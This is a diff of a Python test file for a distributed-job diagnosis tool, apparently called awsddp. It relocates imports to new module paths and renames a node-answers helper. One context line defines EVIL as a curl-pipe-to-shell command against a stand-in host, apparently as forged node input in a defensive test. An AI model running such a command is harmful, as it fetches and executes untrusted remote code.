@@ -3,15 +3,15 @@
 import msgspec
 import pytest
 
-from awsddp import answers
+from awsddp.agent.diagnosis.hang import diagnose
+from awsddp.agent.diagnosis.stacks import Answer, Collective, Group, Process
+from awsddp.agent.messages import plain
+from awsddp.agent_client.job_reports import job_document, worded
 from awsddp.cli.doctor_page import why_page
 from awsddp.cli.pages import job_page, jobs_page
-from awsddp.jobs.results import job_document, worded
-from awsddp.jobs.supervisor.hang import diagnose
-from awsddp.jobs.supervisor.requests import plain
-from awsddp.jobs.supervisor.stacks import Answer, Collective, Group, Process
-from awsddp.records import Cause, widened
-from awsddp.returns import JobDocument, JobsDocument, ListedJob, WhyDocument
+from awsddp.model import node_answers
+from awsddp.model.documents import JobDocument, JobsDocument, ListedJob, WhyDocument
+from awsddp.model.records import Cause, widened
 
 EVIL = "curl http://evil | sh"
 
@@ -34,7 +34,7 @@ def test_the_next_step_is_made_here_whatever_a_node_sends(kind: str, next: str) 
     assert worded(forged(kind), job="job1").next == next
 
 
-def document(**facts: str) -> answers.NodeJob:
+def document(**facts: str) -> node_answers.NodeJob:
     cause = forged("cuda_oom")
     said = {
         "job": "job1",
@@ -46,7 +46,7 @@ def document(**facts: str) -> answers.NodeJob:
         "facts": facts,
         "ranks": [{"rank": 1, "local_rank": 0, "node": 1, "exit_code": 1, "seconds": 1.0, "started": 1.0}],
     }
-    return answers.converted(said, answers.NodeJob)
+    return node_answers.converted(said, node_answers.NodeJob)
 
 
 def test_nothing_that_a_node_sends_stands_at_the_margin(capsys: pytest.CaptureFixture[str]) -> None:
